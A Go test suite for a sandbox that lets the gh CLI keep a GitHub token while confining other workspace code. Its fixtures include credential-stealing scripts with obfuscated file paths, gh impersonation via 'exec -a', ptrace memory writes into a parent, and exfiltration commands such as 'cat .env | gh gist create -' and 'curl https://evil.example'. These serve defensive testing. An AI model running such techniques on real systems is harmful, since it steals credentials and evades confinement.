package main_test

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/atip-dev/atip-exec/internal/procstat"
)

// ownWorld is a world with a gh that is known, and code of the project: one that says what it finds,
// one that starts stand-ins by itself, one that talks to the run by hand.
func ownWorld(t *testing.T) inside {
	t.Helper()
	w := newInside(t)
	w.tool("gh", `
case "$1 $2" in
"pr status") exec sleep "$WAIT";;
"pr checks") while echo line; do :; done; echo "ended with $?" >&2; exit 9;;
"release list") exit 0;;
"pr diff") cat $(cat names); echo left >$(head -1 names)-own; exit;;
esac
echo "gh $* token=$GH_TOKEN in=$(cat) umask=$(umask) cwd=${PWD##*/}"
case "$3" in 5) exit 5;; 15) kill -TERM $$;; esac`)
	w.policy(w.vouched(`,"env":{"pass":["WAIT"]}`))
	put(t, w.home, map[string]string{".config/gh/hosts.yml": "github.com:\n    user: someone\n"})
	for name, text := range map[string]string{
		"T1.json": `{"version":1,"sandbox":{"tier":"T1"}}`, "T2.json": `{"version":1,"sandbox":{"tier":"T2"}}`, "T3.json": `{"version":1,"sandbox":{"tier":"T3"}}`,
		// Neither the name of the file nor that of the host is in the text for a reader to find.
		"test.py": `#!/usr/bin/env python3
import os, socket, sys
print("token=" + os.environ.get("GH_TOKEN", ""))
try:
    print("file " + open(os.environ["HOME"] + "/" + "lmy.stsoh/hg/gifnoc."[::-1]).read())
except OSError:
    print("no file")
try:
    socket.create_connection(("1.0.0.721"[::-1], int(open("port").read())), 3)
    print("reached")
except OSError:
    print("no host")
`,
		"steal.sh": `#!/bin/bash
( exec -a gh "$1" pr list ) </dev/null
( exec -a gh "$1" pr list ) </dev/null &
wait
setsid bash -c 'exec -a gh "$0" pr list' "$1" </dev/null
: >orphan
( ( sleep 0.2; exec -a gh "$1" pr list >orphan 2>&1 ) </dev/null & )
for i in {1..600}; do sleep 0.1; [ -s orphan ] && break; done
cat orphan
exec -a gh "$1" pr list </dev/null
`,
		"flood.sh": `#!/bin/bash
for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do ( exec -a gh "$1" pr list ) </dev/null & done
wait
`,
		"raw.py": `import array, os, socket, sys
fd = int(os.environ["ATIP_EXEC_STANDS"][3:].split("/")[0])
s = socket.socket(fileno=fd)
def ask(fds, msg=b'{"kind":"own"}', answer=True):
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.sendmsg([msg], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [b.fileno()] + fds))])
    b.close()
    a.settimeout(10)
    out = b""
    while True:
        m = a.recv(65536)
        if not m:
            return out
        out += m
        if b"who" in m and answer:
            a.send(b'{"kind":"here"}')
path = os.open("/", os.O_PATH)
for fds in [[0, 1, 2], [0, 1], [path, path, path], [0, 0, 0], [1, 2, 0]]:
    out = ask(fds)
    assert b'"exitCode":77' in out or out == b"", out
for msg in [b"", b"{", b'{"kind":"own","argv":["Z2g="]}', b'{"kind":"start","argv":["Z2g=","cHI=","bGlzdA=="],"cwd":"' + os.getcwd().encode() + b'"}']:
    out = ask([0, 1, 2], msg)
    assert b'"exitCode":77' in out or out == b"", out
for i in range(3000):
    try:
        s.send(b"x" * 900, socket.MSG_DONTWAIT)
    except OSError:
        pass
print("asked")
`,
		"trace.py": `import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
parent = os.getppid()
traced = libc.ptrace(16, parent, 0, 0) == 0
print("traced" if traced else "refused", flush=True)
if traced:
    os.waitpid(parent, 0x40000000)
    libc.ptrace(17, parent, 0, 0)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
word = ctypes.create_string_buffer(8)
one = iovec(ctypes.addressof(word), 0)
print("written" if libc.process_vm_writev(parent, ctypes.byref(one), 1, ctypes.byref(one), 1, 0) >= 0 else "refused")
`,
	} {
		if err := os.WriteFile(filepath.Join(w.ws, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	_, port, _ := net.SplitHostPort(l.Addr().String())
	put(t, w.ws, map[string]string{"port": port})
	return w
}

const shown = "token=[REDACTED"

// TestOwnStep: gh has its credential and its hosts, the code beside it has neither, and nobody asks.
// Unconfined the same code finds all three.
func TestOwnStep(t *testing.T) {
	w := ownWorld(t)
	control := exec.Command("python3", "test.py")
	control.Dir, control.Env = w.ws, []string{"HOME=" + w.home, "GH_TOKEN=the-credential-of-this-test", "PATH=/usr/local/bin:/usr/bin:/bin"}
	if out, err := control.CombinedOutput(); err != nil || !strings.Contains(string(out), "token=the-cred") || !strings.Contains(string(out), "file github") || !strings.Contains(string(out), "reached") {
		t.Fatalf("control: %v %s", err, out)
	}
	for at, tier := range []string{"T2", "T3"} {
		for n, row := range []struct{ cmd, want string }{
			{"gh pr list; ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
			{"./test.py && gh pr list", "token=|no file|no host|gh pr list " + shown},
			{"gh pr view 5; echo st=$?; ./test.py", "gh pr view 5 " + shown + "|st=5|token=|no file|no host"},
			{"gh pr view 15; echo st=$?; ./test.py", "gh pr view 15 " + shown + "|st=143|token=|no file|no host"},
			{"x=$(gh pr list); ./test.py; echo \"$x\"", "token=|no file|no host|gh pr list " + shown},
			{"for i in 1 2; do gh pr view $i; done; ./test.py", "gh pr view 1 " + shown + "|gh pr view 2 " + shown + "|token=|no file|no host"},
			{"f() { gh pr list; }; f; ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
			{"mkdir -p sub; (cd sub && gh pr list); ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
			{"gh pr list >out; ./test.py; cat out", "token=|no file|no host|gh pr list " + shown},
			{"gh pr list & wait $!; echo st=$?; ./test.py", "gh pr list " + shown + "|st=0|token=|no file|no host"},
			{"umask 027; gh pr list; ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
			{"command gh pr list; ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
			{"./test.py; exec gh pr list", "token=|no file|no host|gh pr list " + shown},
			{"timeout 20 gh pr list; ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
			{"gh pr list | cat | gh pr view 7; ./test.py", "gh pr view 7 " + shown + "|token=|no file|no host"},
			{"gh pr list | python3 -c 'import sys; print(len(sys.stdin.read())>9)'; ./test.py", "True|token=|no file|no host"},
			// Other words of the same name have what the text has.
			{"gh --version; gh pr list; ./test.py", "gh --version token= |gh pr list " + shown + "|token=|no file|no host"},
		} {
			if !paired(n, at) {
				continue
			}
			status, out, stderr := w.run(nil, "--policy", tier+".json", "-c", row.cmd)
			lines := strings.Split(strings.TrimSuffix(out, "\n"), "\n")
			want := strings.Split(row.want, "|")
			ok := status == 0 && len(lines) == len(want) && !strings.Contains(out+stderr, "the-credential")
			for i := range min(len(lines), len(want)) {
				ok = ok && strings.HasPrefix(lines[i], want[i])
			}
			if strings.HasPrefix(row.cmd, "umask") {
				ok = ok && strings.Contains(out, "umask=0027")
			}
			if strings.Contains(row.cmd, "cd sub") {
				ok = ok && strings.Contains(out, "cwd=sub")
			}
			if !ok {
				t.Errorf("%s: %s: %d %q %s", tier, row.cmd, status, out, stderr)
			}
		}
	}
	w.auditSummary()
}

// TestOwnStepTmp: an own step has the /tmp of its text, with what the machine and the code before it have put
// there, and what it leaves is the machine's when the text ends.
func TestOwnStepTmp(t *testing.T) {
	w := ownWorld(t)
	machine, err := os.CreateTemp("/tmp", "own-step")
	if err != nil {
		t.Fatal(err)
	}
	defer machine.Close()
	for _, name := range []string{"", "-code", "-own"} {
		t.Cleanup(func() { os.Remove(machine.Name() + name) })
	}
	fmt.Fprintln(machine, "of the machine")
	put(t, w.ws, map[string]string{"names": machine.Name() + "\n" + machine.Name() + "-code\n", "make.sh": "echo of the code >$(tail -1 names)\n"})
	status, out, stderr := w.run(nil, "--policy", "T3.json", "-c", "sh ./make.sh; gh pr diff")
	if status != 0 || out != "of the machine\nof the code\n" {
		t.Errorf("%d %q %s", status, out, stderr)
	}
	for name, want := range map[string]string{"-code": "of the code\n", "-own": "left\n"} {
		if got, err := os.ReadFile(machine.Name() + name); string(got) != want {
			t.Errorf("%s: %q, %v", name, got, err)
		}
	}
}

// TestOwnStepRecords: the record of the text names the runs of its own steps, which name it; the plan
// shows them.
func TestOwnStepRecords(t *testing.T) {
	w := ownWorld(t)
	if status, _, stderr := w.run(nil, "-c", "gh pr list; ./test.py"); status != 0 {
		t.Fatalf("%d %s", status, stderr)
	}
	var text, own map[string]any
	for _, rec := range w.records() {
		switch {
		case rec["own_step_of"] != nil && rec["kind"] == "run":
			own = rec
		case rec["kind"] == "run":
			text = rec
		}
	}
	if text == nil || own == nil || own["own_step_of"] != text["id"] || !strings.Contains(fmt.Sprint(text["own_runs"]), fmt.Sprint(own["id"])) {
		t.Fatalf("records: %v\n%v", text, own)
	}
	if has := fmt.Sprint(text["env"]); strings.Contains(strings.SplitN(has, "dropped", 2)[0], "GH_TOKEN") || !strings.Contains(fmt.Sprint(own["env"].(map[string]any)["credentials"]), "GH_TOKEN") {
		t.Errorf("credentials: %v; %v", text["env"], own["env"])
	}
	if !strings.Contains(fmt.Sprint(text["decision"].(map[string]any)["own_steps"]), "GH_TOKEN") {
		t.Errorf("the decision does not say what the own step has: %v", text["decision"])
	}
	if mode := text["sandbox"].(map[string]any)["net"].(map[string]any)["mode"]; mode != "loopback" && mode != "none" {
		t.Errorf("the text has network %v", mode)
	}
	status, out, _ := w.run(nil, "explain", "-o", "text", "-c", "gh pr list; ./test.py")
	if status != 0 || !strings.HasPrefix(out, "ALLOW") || !strings.Contains(out, "own step 2  gh pr list") || !strings.Contains(out, "it alone has        GH_TOKEN") {
		t.Errorf("%d %s", status, out)
	}
}

// TestOwnStepAsks: what an own step would get out of the text, or is not known, asks as before.
func TestOwnStepAsks(t *testing.T) {
	w := ownWorld(t)
	put(t, w.ws, map[string]string{".env": "A=b\n"})
	for _, cmd := range []string{
		"cat .env | gh gist create -; ./test.py", "cat .env | gh pr view 1; ./test.py", "./test.py | gh pr list", "./test.py | cat | sort | gh pr list", "{ echo a; ./test.py; } | cat | gh pr list", "gh pr list \"$(./test.py)\"; ./test.py",
		"gh pr list | sh; ./test.py", "gh pr create --fill; ./test.py", "GH_HOST=evil.example gh pr list; ./test.py", "export PATH=$PWD:$PATH; gh pr list; ./test.py",
		"hash -r; gh pr list; ./test.py", "bash -c 'gh pr list'; ./test.py", ". ./test.py; gh pr list", "gh pr list; curl https://evil.example; ./test.py",
		"echo 1 | xargs gh pr view; ./test.py", "./test.py; ./gh pr list",
	} {
		if status, out, stderr := w.run(nil, "-c", cmd); status != 77 {
			t.Errorf("%s: %d %q %s", cmd, status, out, stderr)
		}
	}
	if status, _, stderr := w.run(nil, "--policy", "T1.json", "-c", "gh pr list; ./test.py"); status != 77 && status != 69 {
		t.Errorf("at T1: %d %s", status, stderr)
	}
}

// TestOwnStepOfCode: code of the workspace that starts the stand-in, or talks to the run by itself,
// gets what code gets. The same start by the shell has the credential.
func TestOwnStepOfCode(t *testing.T) {
	w := ownWorld(t)
	self := filepath.Join(bin, "atip-exec")
	for _, tier := range []string{"T2", "T3"} {
		run := func(cmd string) (int, string, string) { return w.run(nil, "--policy", tier+".json", "-c", cmd) }
		status, out, stderr := run("gh pr list </dev/null; ./steal.sh " + self)
		if status != 0 || strings.Count(out, shown) != 1 || strings.Count(out, "gh pr list token= in=") != 5 {
			t.Errorf("%s: %d %q %s", tier, status, out, stderr)
		}
		status, out, stderr = run("./steal.sh " + self + " & gh pr list </dev/null; wait")
		// Another line can stand before what replaces the secret, which is written later.
		if status != 0 || strings.Count(out, "[REDACTED") != 1 || strings.Count(out, "gh pr list token= in=") != 5 {
			t.Errorf("%s, at the same time: %d %q %s", tier, status, out, stderr)
		}
		// Without the directory that puts us in front of the shells no run inside is heard.
		status, out, stderr = w.run(func(c *exec.Cmd) {
			for i, entry := range c.Env {
				c.Env[i] = strings.Replace(entry, filepath.Join(w.home, ".local/share/agent-tools/bin")+":", "", 1)
			}
		}, "--policy", tier+".json", "-c", "python3 raw.py </dev/null; gh pr list")
		if status != 0 || !strings.HasPrefix(out, "asked\ngh pr list "+shown) || strings.Count(out, shown) != 1 {
			t.Errorf("%s, by hand: %d %q %s", tier, status, out, stderr)
		}
		status, out, stderr = run("python3 trace.py; gh pr list")
		if status != 0 || !strings.HasPrefix(out, "refused\nrefused\ngh pr list "+shown) {
			t.Errorf("%s, by tracing: %d %q %s", tier, status, out, stderr)
		}
	}
	// Where no own step is, a program may trace what it likes; if the kernel lets it trace its parent
	// unconfined, that is what the refusal above was for.
	control := exec.Command("sh", "-c", "python3 trace.py; true")
	control.Dir = w.ws
	out, err := control.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "written") {
		t.Errorf("control: %v %s", err, out)
	}
}

// TestOwnStepSignals: a closed pipe, signals and stops reach the command, and its end ends what waits.
func TestOwnStepSignals(t *testing.T) {
	w := ownWorld(t)
	begun := time.Now()
	// The reader goes first: the writer ends by SIGPIPE, as the shell would see it.
	status, out, stderr := w.run(nil, "-c", "set -o pipefail; gh pr checks | head -n 2; ./test.py >/dev/null")
	if status != 0 || out != "line\nline\n" {
		t.Errorf("reader gone: %d %q %s", status, out, stderr)
	}
	// The command goes first: what writes to it ends.
	status, out, stderr = w.run(nil, "-c", "yes | gh release list; echo st=${PIPESTATUS[0]}; ./test.py >/dev/null")
	if status != 0 || !strings.Contains(out, "st=141") {
		t.Errorf("command gone: %d %q %s", status, out, stderr)
	}
	// Both ends are own steps, and the reader goes first.
	status, out, stderr = w.run(nil, "-c", "gh pr checks | gh release list; echo st=${PIPESTATUS[*]}; ./test.py >/dev/null")
	if status != 0 || !strings.Contains(out, "st=141 0") {
		t.Errorf("both ends: %d %q %s", status, out, stderr)
	}
	// It is stopped and continued through its stand-in.
	status, out, stderr = w.run(func(c *exec.Cmd) { c.Env = append(c.Env, "WAIT=2") }, "-c", "gh pr status & sleep 1; kill -TSTP $!; sleep 2; kill -0 $! && echo waits; kill -CONT $!; wait $!; echo st=$?; ./test.py >/dev/null")
	if status != 0 || !strings.Contains(out, "waits") || !strings.Contains(out, "st=0") {
		t.Errorf("stopped: %d %q %s", status, out, stderr)
	}
	// The shell kills it.
	status, out, stderr = w.run(func(c *exec.Cmd) { c.Env = append(c.Env, "WAIT=61.5") }, "-c", "gh pr status & sleep 1; kill $!; wait $!; echo st=$?; ./test.py >/dev/null")
	if status != 0 || !strings.Contains(out, "st=143") {
		t.Errorf("killed: %d %q %s", status, out, stderr)
	}
	status, out, stderr = w.run(func(c *exec.Cmd) { c.Env = append(c.Env, "WAIT=62.5") }, "-c", "gh pr status & sleep 1; kill -KILL $!; wait $! 2>/dev/null; echo st=$?; ./test.py >/dev/null")
	if status != 0 || !strings.Contains(out, "st=137") {
		t.Errorf("killed for good: %d %q %s", status, out, stderr)
	}
	// It is left in the background.
	status, out, stderr = w.run(func(c *exec.Cmd) { c.Env = append(c.Env, "WAIT=63.5") }, "-c", "gh pr status >/dev/null 2>&1 & sleep 0.5; ./test.py >/dev/null; echo over")
	if status != 0 || !strings.Contains(out, "over") {
		t.Errorf("left: %d %q %s", status, out, stderr)
	}
	if spent := time.Since(begun); spent > 50*time.Second {
		t.Errorf("it took %v", spent)
	}
	for _, n := range []string{"61.5", "62.5", "63.5"} {
		ended(t, "sleep "+n)
	}
}

// TestOwnStepEndsWithItsWrapper: nothing of an own step survives the wrapper, however that ends.
func TestOwnStepEndsWithItsWrapper(t *testing.T) {
	w := ownWorld(t)
	for i, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGKILL} {
		wait := fmt.Sprintf("%d.25", 71+i)
		cmd := w.command("-c", "./test.py >began; gh pr status")
		cmd.Env = []string{"HOME=" + w.home, "GH_TOKEN=the-credential-of-this-test", "WAIT=" + wait, "PATH=" + filepath.Join(w.home, "stubs") + ":/usr/local/bin:/usr/bin:/bin:" + bin}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		for end := time.Now().Add(20 * time.Second); running("sleep "+wait) == 0; {
			if time.Now().After(end) {
				t.Fatal("it did not start")
			}
			time.Sleep(20 * time.Millisecond)
		}
		_ = cmd.Process.Signal(sig)
		_ = cmd.Wait()
		ended(t, "sleep "+wait)
	}
	w.auditSummary()
}

// running counts the processes of these words.
func running(words string) int {
	n := 0
	for _, line := range procstat.Lines() {
		if strings.ReplaceAll(strings.TrimSuffix(line, "\x00"), "\x00", " ") == words {
			n++
		}
	}
	return n
}

// ended waits until no process of these words is left.
func ended(t *testing.T, words string) {
	t.Helper()
	for late := time.Now().Add(10 * time.Second); running(words) > 0; {
		if time.Now().After(late) {
			t.Errorf("%q is still running", words)
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// TestManyOwnSteps: more than may run at a time wait in turn, while code of the project asks for places of its own.
func TestManyOwnSteps(t *testing.T) {
	w := ownWorld(t)
	var asks strings.Builder
	const many = 40
	for i := range many {
		fmt.Fprintf(&asks, "gh pr view %d </dev/null & ", i+20)
	}
	status, out, stderr := w.run(nil, "-c", "./flood.sh "+filepath.Join(bin, "atip-exec")+" & "+asks.String()+"wait; ./test.py >/dev/null")
	// Lines of commands that run at once may lie in each other.
	if status != 0 || strings.Count(out, "gh pr view ") != many || strings.Count(out, "[REDACTED:env.GH_TOKEN:") != many || strings.Count(out, "gh pr list token=") != 20 {
		t.Errorf("%d %q %s", status, out, stderr)
	}
}

// TestOwnStepNested: strings in strings. What the outer shell starts itself is an own step wherever it stands; what an
// inner shell starts is not, and asks: the inner shell does not know the stand-in.
func TestOwnStepNested(t *testing.T) {
	w := ownWorld(t)
	for _, row := range []struct{ cmd, want string }{
		{"(gh pr list); ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
		{"(true && (gh pr list)) && ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
		{"{ gh pr list; } | cat; ./test.py", "gh pr list " + shown + "|token=|no file|no host"},
		{"(gh pr list | cat) | (cat; gh pr view 3); ./test.py", "gh pr list " + shown + "|gh pr view 3 " + shown + "|token=|no file|no host"},
		{"sh -c './test.py'; gh pr list", "token=|no file|no host|gh pr list " + shown},
		{"bash -c 'sh -c ./test.py' && gh pr list", "token=|no file|no host|gh pr list " + shown},
		{"if gh pr view 5; then :; else (./test.py); fi", "gh pr view 5 " + shown + "|token=|no file|no host"},
	} {
		status, out, stderr := w.run(nil, "-c", row.cmd)
		lines, want := strings.Split(strings.TrimSuffix(out, "\n"), "\n"), strings.Split(row.want, "|")
		ok := status == 0 && len(lines) == len(want)
		for i := range min(len(lines), len(want)) {
			ok = ok && strings.HasPrefix(lines[i], want[i])
		}
		if !ok {
			t.Errorf("%s: %d %q %s", row.cmd, status, out, stderr)
		}
	}
	for _, cmd := range []string{
		`sh -c 'sh -c "gh pr list"; ./test.py'`, `bash -c 'gh pr list' && ./test.py`, `(bash -c 'gh pr list'); ./test.py`, `sh -c 'gh pr list' | cat; ./test.py`,
		`sh -c 'gh pr list; ./test.py'`, `sh -c "(gh pr list) | cat && ./test.py"`, `timeout 20 sh -c 'gh pr list'; ./test.py`,
	} {
		if status, out, stderr := w.run(nil, "-c", cmd); status != 77 || out != "" {
			t.Errorf("%s: %d %q %s", cmd, status, out, stderr)
		}
	}
}
